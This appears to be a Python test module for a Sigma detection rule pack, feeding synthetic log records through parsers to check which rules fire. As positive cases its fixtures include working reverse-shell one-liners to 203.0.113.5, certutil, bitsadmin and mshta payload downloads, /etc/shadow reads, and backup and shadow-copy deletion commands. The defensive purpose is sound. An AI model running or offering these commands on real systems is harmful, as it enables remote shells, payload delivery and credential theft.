"""The pack on records our collectors parse: each test is a case where a rule fired on benign data or
stayed silent on the behaviour it names. Lines go through the real parsers, so the field names a rule
uses are the ones collectors emit."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from secops.detect.check import validate
from secops.detect.detector import Detector
from secops.detect.pipelines import _items
from secops.detect.rules import load_rules
from secops.inputs import expand
from secops.pipeline import Stats, parse_files
from secops.registry import ParseContext
from tests.conftest import require

PACK = Path(__file__).resolve().parents[2] / "rules" / "sigma"


@pytest.fixture(scope="module")
def ruleset():
    return load_rules([PACK])


def parse(paths: list[Path], fmt: str = "auto") -> list[dict]:
    return list(parse_files(expand(paths), fmt, ParseContext(), Stats()))


def fired(ruleset, events: list[dict]) -> list[str]:
    """Names of the rules that alert on these events, one entry per alert."""
    return [alert.rule.name for alert in Detector(ruleset).run(events)]


def lines(tmp_path: Path, name: str, text: str, fmt: str) -> list[dict]:
    path = tmp_path / name
    path.write_text(text)
    events = parse([path], fmt)
    assert events and not any("_parse_failure" in e.get("tags", ()) for e in events)
    return events


# --- perimeter: addresses that never come from the internet ---------------------------------------

UFW = (
    "2026-11-02T08:{m:02d}:11.120000+00:00 fs02 kernel: [90211.120000] [UFW ALLOW] IN=eth0 OUT= "
    "MAC=52:54:00:6e:10:02:52:54:00:9a:31:07:86:dd SRC={src} DST={dst} LEN=80 TC=0 HOPLIMIT=128 "
    "FLOWLBL=0 PROTO=TCP SPT={sport} DPT={dport} WINDOW=64800 RES=0x00 SYN URGP=0\n"
)


def test_link_local_sources_are_not_the_internet(ruleset, tmp_path: Path) -> None:
    text = "".join(
        [
            UFW.format(m=1, src="fe80::4d30:7d6f:8db9:ce3c", dst="fe80::9582:39e0:356b:ef4e", sport=60887, dport=445),
            UFW.format(m=2, src="169.254.17.40", dst="169.254.80.2", sport=50112, dport=3389),
            UFW.format(m=3, src="fe80::4d30:7d6f:8db9:ce3c", dst="fe80::1", sport=50113, dport=53),
        ]
    )
    assert fired(ruleset, lines(tmp_path, "ufw.log", text, "netfilter")) == []
    public = UFW.format(m=4, src="2001:db8:77::15", dst="fe80::9582:39e0:356b:ef4e", sport=40211, dport=445)
    assert fired(ruleset, lines(tmp_path, "ufw2.log", public, "netfilter")) == ["SMB Reachable From The Internet"]


def test_windows_filtering_platform_link_local_smb_is_quiet(ruleset, shared_data: Path) -> None:
    """OTRF's Windows hosts log 5156 for SMB between their own fe80:: addresses."""
    host = shared_data / "endpoint" / "otrf" / "datasets" / "atomic" / "windows"
    found = sorted(host.rglob("empire_mimikatz_logonpasswords*.zip"))
    require(bool(found), f"OTRF mimikatz logonpasswords dataset not found under {host}")
    events = parse(found)
    assert any(str(e.get("source", {}).get("ip", "")).startswith("fe80:") for e in events)
    assert "SMB Reachable From The Internet" not in fired(ruleset, events)


# --- DNS ------------------------------------------------------------------------------------------

ZEEK_DNS = (
    '{{"ts":1793606400.{i},"uid":"CdnsQ{i}","id.orig_h":"10.20.10.31","id.orig_p":5{i}211,"id.resp_h":"10.20.0.10",'
    '"id.resp_p":53,"proto":"udp","trans_id":{t},"query":"{name}","qclass":1,"qclass_name":"C_INTERNET","qtype":1,'
    '"qtype_name":"A","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"Z":0,'
    '"rejected":false}}\n'
)


def test_windows_connectivity_probe_is_not_a_dga_name(ruleset, tmp_path: Path) -> None:
    """Every Windows host asks for dns.msftncsi.com on each network change: msftncsi has seven consonants."""
    names = ["dns.msftncsi.com", "ipv6.msftncsi.com", "www.msftncsi.com", "xkcdqwrtzplm.info"]
    text = "".join(ZEEK_DNS.format(i=i, t=i + 100, name=name) for i, name in enumerate(names))
    assert fired(ruleset, lines(tmp_path, "dns.log", text, "zeek")) == ["DGA-Like Domain Name"]


def test_dga_rule_is_quiet_on_a_real_windows_capture(ruleset, shared_data: Path) -> None:
    pcap = shared_data / "packet" / "suricata-verify" / "tests" / "output-eve-ftp-data" / "input.pcap"
    require(pcap.is_file(), f"{pcap} not found")
    events = parse([pcap])
    assert any(e.get("dns", {}).get("question", {}).get("name") == "dns.msftncsi.com" for e in events)
    assert "DGA-Like Domain Name" not in fired(ruleset, events)


# --- Windows --------------------------------------------------------------------------------------


def process_4688(i: int, executable: str, command_line: str, parent: str = "C:\\Windows\\System32\\cmd.exe") -> str:
    """A Security 4688 record as Winlogbeat ships it (the winlog-json collector's input)."""
    data = {
        "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1301",
        "SubjectUserName": "mjones",
        "SubjectDomainName": "AGENCY",
        "SubjectLogonId": "0x3e7",
        "NewProcessId": hex(0x5100 + i),
        "NewProcessName": executable,
        "TokenElevationType": "%%1938",
        "ProcessId": "0x1a2c",
        "CommandLine": command_line,
        "ParentProcessName": parent,
        "MandatoryLabel": "S-1-16-8192",
    }
    record = {
        "@timestamp": f"2026-11-02T09:{i:02d}:27.826Z",
        "agent": {"type": "winlogbeat", "version": "8.15.3", "name": "WS-HQ-0042"},
        "host": {"name": "WS-HQ-0042.agency.gov", "hostname": "WS-HQ-0042"},
        "event": {"code": "4688", "kind": "event", "provider": "Microsoft-Windows-Security-Auditing"},
        "winlog": {
            "channel": "Security",
            "computer_name": "WS-HQ-0042.agency.gov",
            "event_id": "4688",
            "provider_name": "Microsoft-Windows-Security-Auditing",
            "record_id": 2348621000 + i,
            "api": "wineventlog",
            "event_data": data,
        },
    }
    return json.dumps(record) + "\n"


POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def test_encoded_powershell_in_every_abbreviation(ruleset, tmp_path: Path) -> None:
    """PowerShell takes any unambiguous prefix of -EncodedCommand; -e is the one droppers use most."""
    payload = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
    encoded = [
        f"powershell.exe -nop -w hidden -e {payload}",
        f"powershell.exe -NonI -Encoded {payload}",
        f"powershell.exe -enco {payload}",
        f"powershell.exe /EncodedC {payload}",
        f"powershell.exe -NoP -EncodedCommand {payload}",
    ]
    plain = [
        'powershell.exe -Command "Get-Content C:\\ops\\users.csv -Encoding UTF8 | Measure-Object"',
        "powershell.exe -ExecutionPolicy Bypass -File C:\\ops\\inventory.ps1",
    ]
    text = "".join(process_4688(i, POWERSHELL, c) for i, c in enumerate([*encoded, *plain]))
    hits = fired(ruleset, lines(tmp_path, "sec.ndjson", text, "winlog-json"))
    assert hits == ["PowerShell With An Encoded Command"] * len(encoded)


# --- Linux ----------------------------------------------------------------------------------------


def test_shadow_read_through_sudo_is_seen(ruleset, tmp_path: Path) -> None:
    """sudo logs the command it ran, not a process name: the shadow rule must read the command line."""
    text = (
        "Nov  2 09:41:30 web01-hq sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; "
        "COMMAND=/bin/cat /etc/shadow\n"
        "Nov  2 09:41:52 web01-hq sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; "
        "COMMAND=/usr/bin/base64 -w0 /etc/gshadow\n"
        "Nov  2 09:42:10 web01-hq sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; "
        "COMMAND=/bin/sh -c cat /etc/shadow > /tmp/.s\n"
        "Nov  2 09:43:02 web01-hq sudo:   mlopez : TTY=pts/0 ; PWD=/home/mlopez ; USER=root ; "
        "COMMAND=/usr/bin/passwd -S mlopez\n"
        "Nov  2 09:43:40 web01-hq sudo:   mlopez : TTY=pts/0 ; PWD=/home/mlopez ; USER=root ; "
        "COMMAND=/usr/sbin/vipw -s\n"
        "Nov  2 09:44:15 web01-hq sudo:   mlopez : TTY=pts/0 ; PWD=/home/mlopez ; USER=root ; "
        "COMMAND=/usr/bin/ls -l /etc/shadow\n"
    )
    hits = fired(ruleset, lines(tmp_path, "auth.log", text, "linux-auth"))
    assert hits == ["Shadow Password File Read By A Shell Tool"] * 3


# Opens for writing, as an auditd watch (-w PATH -p wa) records them: a new sudoers.d file (openat,
# O_WRONLY|O_CREAT|O_TRUNC), a key appended by the 64-bit open syscall (flags in a1), a crontab line
# appended with openat (flags in a2); then sudo reading /etc/sudoers and a refused append.
AUDITD_WRITES = Path(__file__).parent / "data" / "auditd_opens_for_writing.log"


def test_file_rules_see_auditd_opens_for_writing(ruleset, tmp_path: Path) -> None:
    """auditd calls every open 'opened-file' (type access); shell redirections and tee write that way."""
    hits = fired(ruleset, lines(tmp_path, "audit.log", AUDITD_WRITES.read_text(), "auditd"))
    assert sorted(hits) == ["Cron Entry Written", "SSH Authorized Keys Modified", "Sudoers Policy Changed"]


def service_7045(i: int, name: str, image_path: str) -> str:
    record = {
        "@timestamp": f"2026-11-02T14:{i:02d}:45.531Z",
        "agent": {"type": "winlogbeat", "version": "8.15.3", "name": "SQL01"},
        "host": {"name": "SQL01.agency.gov", "hostname": "SQL01"},
        "event": {"code": "7045", "kind": "event", "provider": "Service Control Manager"},
        "winlog": {
            "channel": "System",
            "computer_name": "SQL01.agency.gov",
            "event_id": "7045",
            "provider_name": "Service Control Manager",
            "record_id": 2349039200 + i,
            "api": "wineventlog",
            "event_data": {
                "ServiceName": name,
                "ImagePath": image_path,
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
        },
    }
    return json.dumps(record) + "\n"


def test_remote_execution_services_are_seen(ruleset, tmp_path: Path) -> None:
    """PsExec and its clones install a service of a known name on the target: the lateral movement step."""
    services = [
        ("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
        ("PAExec-6120-WS-REGION1-0008", "%SystemRoot%\\PAExec-6120-WS-REGION1-0008.exe"),
        ("RemComSvc", "%SystemRoot%\\RemComSvc.exe"),
        ("csexecsvc", "%SystemRoot%\\csexecsvc.exe"),
        ("Spooler", "%SystemRoot%\\System32\\spoolsv.exe"),
        ("MSSQLSERVER", '"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe"'),
    ]
    text = "".join(service_7045(i, name, path) for i, (name, path) in enumerate(services))
    hits = fired(ruleset, lines(tmp_path, "system.ndjson", text, "winlog-json"))
    assert hits == ["Remote Execution Service Installed (PsExec Or A Clone)"] * 4


def test_psexec_service_in_a_real_system_log(ruleset, shared_data: Path) -> None:
    evtx = next((shared_data / "endpoint" / "evtx").rglob("ID7045-7036 PSexec service installation.evtx"), None)
    require(evtx is not None, "EVTX-to-MITRE-Attack PsExec sample not found")
    assert "Remote Execution Service Installed (PsExec Or A Clone)" in fired(ruleset, parse([evtx]))


def defender(i: int, code: str, data: dict[str, str]) -> str:
    record = {
        "@timestamp": f"2026-11-02T16:{i:02d}:05.200Z",
        "agent": {"type": "winlogbeat", "version": "8.15.3", "name": "WS-HQ-0042"},
        "host": {"name": "WS-HQ-0042.agency.gov", "hostname": "WS-HQ-0042"},
        "event": {"code": code, "kind": "event", "provider": "Microsoft-Windows-Windows Defender"},
        "winlog": {
            "channel": "Microsoft-Windows-Windows Defender/Operational",
            "computer_name": "WS-HQ-0042.agency.gov",
            "event_id": code,
            "provider_name": "Microsoft-Windows-Windows Defender",
            "record_id": 51200 + i,
            "api": "wineventlog",
            "event_data": {"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.24090.11", **data},
        },
    }
    return json.dumps(record) + "\n"


def test_defender_protection_turned_off_by_setting(ruleset, tmp_path: Path) -> None:
    """Set-MpPreference, a GPO or a registry edit all end in 5007 with the new value of the setting."""
    key = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\"
    policy = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\"
    text = "".join(
        [
            defender(
                0,
                "5007",
                {
                    "Old Value": f"{key}DisableRealtimeMonitoring = 0x0",
                    "New Value": f"{key}DisableRealtimeMonitoring = 0x1",
                },
            ),
            defender(1, "5007", {"New Value": f"{policy}DisableBehaviorMonitoring = 0x1"}),
            defender(2, "5001", {}),
            # turned back on, and an unrelated setting
            defender(
                3,
                "5007",
                {
                    "Old Value": f"{key}DisableRealtimeMonitoring = 0x1",
                    "New Value": f"{key}DisableRealtimeMonitoring = 0x0",
                },
            ),
            defender(
                4, "5007", {"New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Scan\\AvgCPULoadFactor = 0x1e"}
            ),
        ]
    )
    hits = fired(ruleset, lines(tmp_path, "defender.ndjson", text, "winlog-json"))
    assert hits == ["Defender Real-Time Protection Turned Off"] * 3


def member_added(i: int, code: str, group: str, domain: str, sid: str) -> str:
    data = {
        "MemberName": "CN=Stefan Maier,OU=Staff,DC=behoerde,DC=local",
        "MemberSid": "S-1-5-21-1604372114-2919468215-2301839443-1377",
        "TargetUserName": group,
        "TargetDomainName": domain,
        "TargetSid": sid,
        "SubjectUserSid": "S-1-5-21-1604372114-2919468215-2301839443-500",
        "SubjectUserName": "Administrator",
        "SubjectDomainName": "BEHOERDE",
        "SubjectLogonId": "0x3a7f1",
        "PrivilegeList": "-",
    }
    record = {
        "@timestamp": f"2026-11-02T11:{i:02d}:10.000Z",
        "agent": {"type": "winlogbeat", "version": "8.15.3", "name": "DC02"},
        "host": {"name": "DC02.behoerde.local", "hostname": "DC02"},
        "event": {"code": code, "kind": "event", "provider": "Microsoft-Windows-Security-Auditing"},
        "winlog": {
            "channel": "Security",
            "computer_name": "DC02.behoerde.local",
            "event_id": code,
            "provider_name": "Microsoft-Windows-Security-Auditing",
            "record_id": 771000 + i,
            "api": "wineventlog",
            "event_data": data,
        },
    }
    return json.dumps(record) + "\n"


def test_privileged_groups_are_known_by_sid_in_any_language(ruleset, tmp_path: Path) -> None:
    """A German or French DC names the groups in its language; their SIDs and RIDs do not change."""
    domain = "S-1-5-21-1604372114-2919468215-2301839443"
    text = "".join(
        [
            member_added(0, "4732", "Administratoren", "Builtin", "S-1-5-32-544"),
            member_added(1, "4728", "Domänen-Admins", "BEHOERDE", f"{domain}-512"),
            member_added(2, "4756", "Administrateurs de l’entreprise", "BEHOERDE", f"{domain}-519"),
            member_added(3, "4732", "Serveroperatoren", "Builtin", "S-1-5-32-549"),
            member_added(4, "4732", "Remotedesktopbenutzer", "Builtin", "S-1-5-32-555"),
            member_added(5, "4728", "Projekt-1512", "BEHOERDE", f"{domain}-1512"),
        ]
    )
    hits = fired(ruleset, lines(tmp_path, "dc.ndjson", text, "winlog-json"))
    assert hits == ["Member Added To A Privileged Domain Or Local Group"] * 4


def test_exchange_groups_that_grant_dcsync_are_privileged(ruleset, shared_data: Path) -> None:
    evtx = next((shared_data / "endpoint" / "evtx").rglob("ID4756-Exchange critical group change (DCsync).evtx"), None)
    require(evtx is not None, "EVTX-to-MITRE-Attack Exchange group sample not found")
    events = parse([evtx])
    assert "Member Added To A Privileged Domain Or Local Group" in fired(ruleset, events)


def test_service_image_paths_of_common_attack_tools(ruleset, tmp_path: Path) -> None:
    """Loopback ADMIN$ shares (Cobalt Strike's psexec), cmd with /Q, script hosts: all as service images."""
    suspicious = [
        ("a1f3c9e", "\\\\127.0.0.1\\ADMIN$\\a1f3c9e.exe"),
        ("pipesvc", "C:\\Windows\\system32\\cmd.exe /Q /c echo 9f1c2a > \\\\.\\pipe\\9f1c2a"),
        ("updsvc", "rundll32.exe C:\\Windows\\Tasks\\upd.dll,Start"),
        ("htasvc", 'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")'),
        ("logsvc", "C:\\PerfLogs\\svchost.exe"),
    ]
    benign = [
        ("WinHttpAutoProxySvc", "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p"),
        (
            "Zabbix Agent 2",
            '"C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.exe" -c zabbix_agent2.conf',
        ),
    ]
    text = "".join(service_7045(i, name, path) for i, (name, path) in enumerate([*suspicious, *benign]))
    hits = fired(ruleset, lines(tmp_path, "system.ndjson", text, "winlog-json"))
    assert hits == ["Service Installed With A Suspicious Image Path"] * len(suspicious)


def test_user_created_seen_by_auditd(ruleset, tmp_path: Path) -> None:
    """useradd writes an ADD_USER audit record beside its auth.log line; hosts may ship only one of them."""
    text = (
        "type=ADD_USER msg=audit(1793612578.167:9120): pid=4410 uid=0 auid=1001 ses=7 subj=unconfined "
        "msg='op=add-user id=1005 exe=\"/usr/sbin/useradd\" hostname=web01-hq addr=? terminal=pts/1 res=success'\n"
        "type=ADD_GROUP msg=audit(1793612578.067:9119): pid=4410 uid=0 auid=1001 ses=7 subj=unconfined "
        "msg='op=add-group id=1005 exe=\"/usr/sbin/useradd\" hostname=web01-hq addr=? terminal=pts/1 res=success'\n"
    )
    assert fired(ruleset, lines(tmp_path, "audit.log", text, "auditd")) == ["Local User Account Created"]


# --- ATT&CK tags ----------------------------------------------------------------------------------

# The tactics each technique the pack uses belongs to (MITRE ATT&CK Enterprise). A technique new to
# the pack has to be added here, which is the moment to check its tactics.
TACTICS_OF = {
    "t1003.001": {"credential-access"},
    "t1003.008": {"credential-access"},
    "t1021.001": {"lateral-movement"},
    "t1021.002": {"lateral-movement"},
    "t1027": {"defense-evasion"},
    "t1041": {"exfiltration"},
    "t1046": {"discovery"},
    "t1048": {"exfiltration"},
    "t1048.003": {"exfiltration"},
    "t1053.003": {"execution", "persistence", "privilege-escalation"},
    "t1053.005": {"execution", "persistence", "privilege-escalation"},
    "t1059.001": {"execution"},
    "t1059.004": {"execution"},
    "t1070.001": {"defense-evasion"},
    "t1070.003": {"defense-evasion"},
    "t1071": {"command-and-control"},
    "t1071.004": {"command-and-control"},
    "t1078": {"defense-evasion", "persistence", "privilege-escalation", "initial-access"},
    "t1078.003": {"defense-evasion", "persistence", "privilege-escalation", "initial-access"},
    "t1090.003": {"command-and-control"},
    "t1095": {"command-and-control"},
    "t1098": {"persistence", "privilege-escalation"},
    "t1098.004": {"persistence", "privilege-escalation"},
    "t1105": {"command-and-control"},
    "t1110": {"credential-access"},
    "t1110.001": {"credential-access"},
    "t1110.003": {"credential-access"},
    "t1133": {"initial-access", "persistence"},
    "t1136.001": {"persistence"},
    "t1187": {"credential-access"},
    "t1190": {"initial-access"},
    "t1204.002": {"execution"},
    "t1490": {"impact"},
    "t1543.003": {"persistence", "privilege-escalation"},
    "t1548.003": {"privilege-escalation", "defense-evasion"},
    "t1550.002": {"defense-evasion", "lateral-movement"},
    "t1557.001": {"credential-access", "collection"},
    "t1562.001": {"defense-evasion"},
    "t1562.002": {"defense-evasion"},
    "t1562.004": {"defense-evasion"},
    "t1566": {"initial-access"},
    "t1566.001": {"initial-access"},
    "t1567": {"exfiltration"},
    "t1568": {"command-and-control"},
    "t1568.002": {"command-and-control"},
    "t1569.002": {"execution"},
    "t1571": {"command-and-control"},
    "t1572": {"command-and-control"},
}


def test_every_tactic_tag_belongs_to_one_of_the_rules_techniques(ruleset) -> None:
    wrong = []
    for rule in [*ruleset.rules, *ruleset.correlations]:
        tags = [str(t).removeprefix("attack.") for t in rule.tags or [] if str(t).startswith("attack.")]
        techniques = [t for t in tags if t.startswith("t")]
        tactics = {t for t in tags if not t.startswith(("t", "g", "s"))}
        assert set(techniques) <= set(TACTICS_OF), (rule.title, techniques)
        covered = set().union(*(TACTICS_OF[t] for t in techniques)) if techniques else set()
        wrong += [(str(rule.title), tactic) for tactic in sorted(tactics - covered)]
    assert wrong == []


def test_large_average_upload_is_not_tagged_as_small_chunks(ruleset) -> None:
    """T1030 is exfiltration in fixed, small chunks to stay under thresholds: the opposite of this rule."""
    rule = next(c for c in ruleset.correlations if c.title == "Large Average Upload Per Connection")
    assert "attack.t1030" not in [str(t) for t in rule.tags]


# --- what the rules say about themselves ----------------------------------------------------------


def test_rat_port_description_names_the_ports_the_rule_watches(ruleset) -> None:
    rule = next(r for r in ruleset.rules if r.title.startswith("Outbound Connection On A Port Favoured"))
    said = {int(p) for p in re.findall(r"\b\d{4,5}\b", rule.description)}
    watched = {
        int(v.number)
        for item in _items(rule.detection.detections["selection"])
        for v in item.value
        if item.field == "destination.port"
    }
    assert said == watched


def test_rule_texts_pass_the_sigmahq_style_checks(ruleset, tmp_path: Path, shared_data: Path) -> None:
    """'None known', lower-case entries, titles not in title case and '1 of' without a wildcard draw
    warnings from 'secops rules check'."""
    problems = validate(ruleset, tmp_path / "pysigma", shared_data / "sigma" / "validator-data")
    style = ("falsepositive", "title_case", "missing_asterisk")
    assert [str(p) for p in problems if any(word in p.message for word in style)] == []


def ssh_attempts(count: int, ip: str) -> str:
    """Password guesses five seconds apart against names that do not exist: sshd logs a notice and a
    failure for each."""
    out = []
    for i in range(count):
        name, pid, port, second = f"user{i:02d}", 40000 + i, 50000 + i, 5 * i
        out += [
            f"Nov  2 06:00:{second:02d} bastion01-hq sshd[{pid}]: Invalid user {name} from {ip} port {port}\n",
            f"Nov  2 06:00:{second + 2:02d} bastion01-hq sshd[{pid}]: Failed password for invalid user {name} "
            f"from {ip} port {port} ssh2\n",
            f"Nov  2 06:00:{second + 3:02d} bastion01-hq sshd[{pid}]: Connection closed by invalid user {name} "
            f"{ip} port {port} [preauth]\n",
        ]
    return "".join(out)


def test_ssh_brute_force_counts_each_guess_once(ruleset, tmp_path: Path) -> None:
    """'Ten or more failed logins' means ten guesses, not five guesses each logged twice."""
    five = lines(tmp_path, "five.log", ssh_attempts(5, "203.0.113.77"), "linux-auth")
    assert [e["event"]["action"] for e in five].count("ssh_login") == 10
    assert "SSH Brute Force" not in fired(ruleset, five)
    ten = lines(tmp_path, "ten.log", ssh_attempts(10, "203.0.113.78"), "linux-auth")
    assert fired(ruleset, ten).count("SSH Brute Force") >= 1


def test_slow_ssh_spray_over_many_names_is_seen(ruleset, tmp_path: Path) -> None:
    """One guess a minute per name never reaches the brute-force threshold; the names give it away."""
    guesses = []
    for i, name in enumerate(["admin", "oracle", "postgres", "ubuntu", "test", "guest", "deploy", "git", "ftp", "www"]):
        guesses += [
            f"Nov  2 06:{i:02d}:02 bastion01-hq sshd[{41000 + i}]: Invalid user {name} from 218.37.235.81 "
            f"port 5{i}206\n",
            f"Nov  2 06:{i:02d}:04 bastion01-hq sshd[{41000 + i}]: Failed password for invalid user {name} from "
            f"218.37.235.81 port 5{i}206 ssh2\n",
        ]
    hits = fired(ruleset, lines(tmp_path, "auth.log", "".join(guesses), "linux-auth"))
    assert hits == ["SSH Password Spraying"]


def auditd_execve(seq: int, exe: str, argv: list[str]) -> str:
    """An execve as auditd records it: arguments with spaces, quotes or shell characters hex-encoded."""

    def arg(i: int, a: str) -> str:
        plain = a.isprintable() and not any(c in a for c in " \"'\\$;|&<>()")
        return f'a{i}="{a}"' if plain else f"a{i}={a.encode().hex().upper()}"

    stamp = f"audit(1793613600.{seq:03d}:{7100 + seq})"
    comm = exe.rsplit("/", 1)[1][:15]
    return (
        f"type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2b1f2a0 "
        f"a1=55d0c2b1e9c0 a2=55d0c2b20010 a3=8 items=2 ppid=2250 pid={3000 + seq} auid=4294967295 uid=33 "
        f'gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="{comm}" '
        f'exe="{exe}" subj=unconfined key="exec"\n'
        f"type=EXECVE msg={stamp}: argc={len(argv)} " + " ".join(arg(i, a) for i, a in enumerate(argv)) + "\n"
        f"type=EOE msg={stamp}:\n"
    )


REVERSE_SHELLS = [
    ("/usr/bin/nc.traditional", ["nc", "203.0.113.5", "4444", "-e", "/bin/sh"]),
    ("/usr/bin/ncat", ["ncat", "--exec", "/bin/bash", "203.0.113.5", "443"]),
    ("/usr/bin/busybox", ["busybox", "nc", "203.0.113.5", "443", "-e", "sh"]),
    ("/usr/bin/nc.traditional", ["nc", "-c", "bash", "203.0.113.5", "4444"]),
    (
        "/usr/bin/python3",
        [
            "python3",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',443));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
        ],
    ),
    ("/usr/bin/php", ["php", "-r", '$sock=fsockopen("203.0.113.5",443);exec("/bin/sh -i <&3 >&3 2>&3");']),
    (
        "/usr/bin/perl",
        [
            "perl",
            "-e",
            'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            'if(connect(S,sockaddr_in(443,inet_aton("203.0.113.5")))){open(STDIN,">&S");exec("/bin/sh -i");};',
        ],
    ),
    (
        "/usr/bin/ruby",
        ["ruby", "-rsocket", "-e", 'f=TCPSocket.open("203.0.113.5",443).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'],
    ),
    ("/usr/bin/socat", ["socat", "tcp-connect:203.0.113.5:443", "exec:'bash -li',pty,stderr,setsid"]),
]
EVERYDAY_COMMANDS = [
    ("/usr/bin/nc.openbsd", ["nc", "-zv", "db01.agency.gov", "5432"]),
    ("/usr/bin/ncat", ["ncat", "--ssl", "mail.agency.gov", "465"]),
    ("/usr/bin/dash", ["/bin/sh", "-c", "systemctl restart docker.socket"]),
    ("/usr/bin/python3", ["python3", "-c", "import socket; print(socket.gethostname())"]),
    ("/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:10.20.0.15:80"]),
]


def test_reverse_shells_in_their_usual_spellings(ruleset, tmp_path: Path) -> None:
    """Argument order, ncat's long option, busybox, and the script-language one-liners red teams use."""
    text = "".join(auditd_execve(i, exe, argv) for i, (exe, argv) in enumerate([*REVERSE_SHELLS, *EVERYDAY_COMMANDS]))
    hits = fired(ruleset, lines(tmp_path, "audit.log", text, "auditd"))
    assert hits == ["Reverse Shell Command Line"] * len(REVERSE_SHELLS)


def test_backup_and_recovery_removal_besides_vssadmin(ruleset, tmp_path: Path) -> None:
    """Ransomware also deletes the wbadmin catalogue, removes shadow copies through CIM, and turns off
    boot recovery."""
    system32 = "C:\\Windows\\System32\\"
    removal = [
        (system32 + "wbadmin.exe", "wbadmin delete catalog -quiet"),
        (system32 + "wbadmin.exe", "wbadmin.exe delete systemstatebackup -keepVersions:0 -quiet"),
        (POWERSHELL, 'powershell.exe -c "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance"'),
        (system32 + "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No"),
    ]
    routine = [
        (system32 + "wbadmin.exe", "wbadmin start backup -backupTarget:E: -include:C: -allCritical -quiet"),
        (system32 + "vssadmin.exe", "vssadmin list shadows"),
        (system32 + "bcdedit.exe", "bcdedit /enum {current}"),
    ]
    text = "".join(process_4688(i, exe, cmd) for i, (exe, cmd) in enumerate([*removal, *routine]))
    hits = fired(ruleset, lines(tmp_path, "sec.ndjson", text, "winlog-json"))
    assert hits == ["Shadow Copies, Backups Or Boot Recovery Deleted"] * len(removal)


def test_wbadmin_backup_deletion_in_a_real_security_log(ruleset, shared_data: Path) -> None:
    evtx = next((shared_data / "endpoint" / "evtx").rglob("ID4688-Delete Window backup (webadmin).evtx"), None)
    require(evtx is not None, "EVTX-to-MITRE-Attack wbadmin sample not found")
    assert "Shadow Copies, Backups Or Boot Recovery Deleted" in fired(ruleset, parse([evtx]))


def test_txt_tunnel_names_in_mixed_case(ruleset, tmp_path: Path) -> None:
    """DNS ignores case, so tunnels that carry base64 put upper-case letters in the label."""
    names = [
        "SGVsbG9Xb3JsZEV4ZmlsQ2h1bmswMDAx.t.exfil-example.net",
        "4f1c9a7be2d04c8b9e5f6a7b8c9d0e1f.t.exfil-example.net",
        "_dmarc.agency.gov",
        "google._domainkey.agency.gov",
    ]
    text = "".join(
        ZEEK_DNS.format(i=i, t=200 + i, name=name).replace(
            '"qtype":1,"qtype_name":"A"', '"qtype":16,"qtype_name":"TXT"'
        )
        for i, name in enumerate(names)
    )
    hits = fired(ruleset, lines(tmp_path, "dns.log", text, "zeek"))
    assert hits.count("TXT Query For A Long Generated Name") == 2


def test_office_children_from_onenote_and_download_tools(ruleset, tmp_path: Path) -> None:
    """OneNote attachments replaced macro documents in 2023 phishing; certutil and bitsadmin fetch payloads."""
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
    system32 = "C:\\Windows\\System32\\"
    suspicious = [
        (office + "ONENOTE.EXE", system32 + "cmd.exe", 'cmd.exe /c "C:\\Users\\jdoe\\AppData\\Local\\Temp\\inv.bat"'),
        (
            office + "EXCEL.EXE",
            system32 + "certutil.exe",
            "certutil -urlcache -split -f http://203.0.113.9/a.txt a.exe",
        ),
        (
            office + "WINWORD.EXE",
            system32 + "bitsadmin.exe",
            "bitsadmin /transfer j http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe",
        ),
        (office + "MSPUB.EXE", system32 + "mshta.exe", "mshta.exe http://203.0.113.9/x.hta"),
    ]
    normal = [
        (office + "WINWORD.EXE", office + "EXCEL.EXE", '"EXCEL.EXE" /dde'),
        (
            office + "OUTLOOK.EXE",
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "chrome.exe https://intranet.agency.gov/",
        ),
    ]
    text = "".join(
        process_4688(i, child, cmd, parent=parent) for i, (parent, child, cmd) in enumerate([*suspicious, *normal])
    )
    hits = fired(ruleset, lines(tmp_path, "sec.ndjson", text, "winlog-json"))
    assert hits == ["Office Application Starts A Shell"] * len(suspicious)


PANOS_END = (
    "<14>Nov  2 10:{m:02d}:24 pa-hq-edge01 1,2026/11/02 10:{m:02d}:24,013201001234,TRAFFIC,end,2561,"
    "2026/11/02 10:{m:02d}:24,{src},{dst},::,::,allow-servers-outbound,,,unknown-tcp,vsys1,trust,untrust,"
    "ethernet1/2,ethernet1/1,fwd-syslog,2026/11/02 10:{m:02d}:24,50003{m:02d},1,5414{m},8531,0,0,0x400053,tcp,allow,"
